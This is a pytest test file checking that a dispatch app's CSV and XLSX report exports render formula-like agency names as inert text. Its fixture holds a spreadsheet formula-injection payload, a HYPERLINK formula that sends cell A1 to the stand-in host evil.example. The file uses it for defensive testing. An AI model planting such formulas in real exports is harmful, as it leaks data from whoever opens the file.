"""Report exports show names that look like formulas as text: a spreadsheet never runs them."""
import csv
import io

import pytest
from openpyxl import load_workbook

from tests import factories
from tests.integration.dispatch_support import received

TRAP = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def trap_agency(db, office, users, auth):
    """An agency whose name someone typed as a formula, with a result received today."""
    agency = factories.agency("000.00.23.H47")
    agency.name = TRAP
    received(office, users["dispatcher"], agency=agency)
    db.session.commit()
    auth.login(users["dispatcher"].username)


def test_a_formula_looking_agency_name_is_text_in_the_csv(client, trap_agency):
    response = client.get("/dispatch/reports/export.csv?by=agency")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for cell in row]
    assert "'" + TRAP in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_the_workbook_holds_no_formula_cell_and_shows_the_name_as_typed(client, trap_agency):
    response = client.get("/dispatch/reports/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    trapped = [cell for cell in cells if cell.value == TRAP]
    assert trapped and all(cell.data_type == "s" and cell.quotePrefix for cell in trapped)
